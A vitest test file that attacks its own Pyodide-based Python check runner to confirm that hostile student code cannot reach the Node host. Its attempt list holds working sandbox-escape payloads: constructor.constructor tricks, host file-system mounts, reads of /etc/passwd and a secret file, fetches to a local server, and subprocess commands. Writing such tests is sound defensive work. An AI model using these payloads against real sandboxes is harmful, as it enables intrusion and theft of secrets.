/**
 * Hostile Python against the check runner: every way we know from Python in Pyodide to Node (the
 * `js` module, `pyodide_js`, a JS object's `constructor.constructor`, `run_js`, mounting the host
 * file system, sockets, HTTP, subprocesses, exiting) tried twice: with the server's Python-side guard
 * (as in production) and without it, to show the JavaScript lockdown holds on its own. A secret file
 * on the host, a marker file and a local HTTP server show whether anything got through.
 */
import { existsSync, mkdtempSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PythonRunner } from './runner.ts';

const dir = mkdtempSync(join(tmpdir(), 'py-escape-'));
const SECRET = join(dir, 'secret.txt');
const TOKEN = `host-secret-${Math.random().toString(36).slice(2)}`;
const MARKER = join(dir, 'marker');
// Set before any worker starts: a thread given the server's environment would show it.
const ENV_TOKEN = `env-secret-${Math.random().toString(36).slice(2)}`;
process.env.TUTOR_TEST_SECRET = ENV_TOKEN;
const CHECK = 'def check_runs():\n    assert True\n';
let server: Server;
let url = '';
const requests: string[] = [];

beforeAll(async () => {
	writeFileSync(SECRET, TOKEN);
	server = createServer((req, res) => {
		requests.push(req.url ?? '');
		res.end(TOKEN);
	});
	server.on('connection', () => requests.push('connection'));
	await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
	url = `http://127.0.0.1:${(server.address() as { port: number }).port}/`;
});
afterAll(async () => {
	await new Promise((resolve) => server.close(resolve));
});

/** Each attempt, written as a student would submit it; `{URL}`, `{SECRET}`, `{MARKER}` filled in. */
const ATTEMPTS: Record<string, string> = {
	'read a host file': 'print(open("{SECRET}").read())\nprint(open("/etc/passwd").read())',
	'the js module':
		'import js\nprint(js.process.getBuiltinModule("fs").readFileSync("{SECRET}", "utf8"))',
	'js.fetch': 'import js\njs.fetch("{URL}")',
	'Function via a JS object': [
		'from pyodide.ffi import to_js',
		'process = to_js([]).constructor.constructor("return process")()',
		'print(process.getBuiltinModule("fs").readFileSync("{SECRET}", "utf8"))',
		'process.getBuiltinModule("child_process").execSync("touch {MARKER}")'
	].join('\n'),
	'Function via a proxy of a Python function': [
		'from pyodide.ffi import create_proxy',
		'f = create_proxy(lambda: 1)',
		'g = f.constructor.constructor("return globalThis.process")()',
		'g.exit(1)'
	].join('\n'),
	'import() through Function': [
		'from pyodide.ffi import to_js',
		"to_js([]).constructor.constructor(\"return import('node:fs').then(fs => fs.writeFileSync('{MARKER}', 'x'))\")()"
	].join('\n'),
	run_js: [
		'from pyodide.code import run_js',
		"print(run_js(\"process.getBuiltinModule('fs').readFileSync('{SECRET}', 'utf8')\"))"
	].join('\n'),
	'pyodide_js mounts the host file system': [
		'import pyodide_js',
		'from pyodide.ffi import to_js',
		'FS = pyodide_js.FS',
		'FS.mkdir("/host")',
		'FS.mount(FS.filesystems.NODEFS, to_js({"root": "/"}, dict_converter=lambda e: __import__("js").Object.fromEntries(e)), "/host")',
		'print(open("/host{SECRET}").read())'
	].join('\n'),
	'pyodide_js.mountNodeFS': [
		'import pyodide_js',
		'pyodide_js.mountNodeFS("/host", "/")',
		'print(open("/host{SECRET}").read())'
	].join('\n'),
	'pyodide_js.loadPackage from a URL': 'import pyodide_js\npyodide_js.loadPackage("{URL}evil.whl")',
	pyfetch: [
		'import asyncio',
		'from pyodide.http import pyfetch',
		'asyncio.ensure_future(pyfetch("{URL}"))'
	].join('\n'),
	'a socket': [
		'import socket',
		'port = int("{URL}".rsplit(":", 1)[1].strip("/"))',
		's = socket.create_connection(("127.0.0.1", port), timeout=1)',
		's.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")',
		'print(s.recv(100))'
	].join('\n'),
	urllib: 'import urllib.request\nprint(urllib.request.urlopen("{URL}").read())',
	'a subprocess': 'import subprocess\nsubprocess.run(["touch", "{MARKER}"])',
	'os.system': 'import os\nos.system("touch {MARKER}")',
	ctypes: 'import ctypes\nprint(ctypes.CDLL(None))',
	'os._exit': 'import os\nos._exit(1)',
	'every JS object in the heap': [
		'import gc',
		'for o in gc.get_objects():',
		'    if type(o).__name__.startswith("Js"):',
		'        try:',
		'            p = o.constructor.constructor("return process")()',
		'            print("ESCAPED", p.getBuiltinModule("fs").readFileSync("{SECRET}", "utf8"))',
		'        except Exception:',
		'            pass'
	].join('\n')
};

const fill = (code: string) =>
	code.replaceAll('{URL}', url).replaceAll('{SECRET}', SECRET).replaceAll('{MARKER}', MARKER);

describe.each([
	['with the Python-side guard (production)', true],
	['with the JavaScript lockdown alone', false]
])('escapes %s', (_, guard) => {
	const runner = new PythonRunner({
		size: 1,
		timeoutMs: 5_000,
		memoryBytes: 128 * 2 ** 20,
		queueMax: 10,
		perUser: 10,
		guard
	});
	afterAll(() => runner.close());

	it.each(Object.entries(ATTEMPTS))('%s gets nothing from the host', async (_, attempt) => {
		const verdict = await runner.check('mallory', fill(attempt), CHECK);
		const said = JSON.stringify(verdict);
		expect(said).not.toContain(TOKEN);
		expect(said).not.toContain('root:x:0');
		expect(said).not.toContain('ESCAPED');
		// Whatever it scheduled had its turn before this next check ran in the same thread.
		expect((await runner.check('mallory', 'print("next")', CHECK)).status).toBe('checked');
		expect(existsSync(MARKER)).toBe(false);
		expect(requests).toEqual([]);
	});

	it("the thread sees none of the server's environment and the server is unharmed", async () => {
		const code = 'import os\nprint(dict(os.environ))';
		const verdict = await runner.check('mallory', code, CHECK);
		expect(verdict.status).toBe('checked');
		const result = (verdict as { result: { stdout: string } }).result;
		expect(result.stdout).toContain('HOME');
		expect(result.stdout).not.toContain(ENV_TOKEN);
		expect(result.stdout).not.toContain(process.env.PATH);
		const seen = await fetch(url);
		expect(await seen.text()).toBe(TOKEN);
		expect(requests.filter((r) => r !== 'connection')).toEqual(['/']);
		requests.length = 0;
	});
});
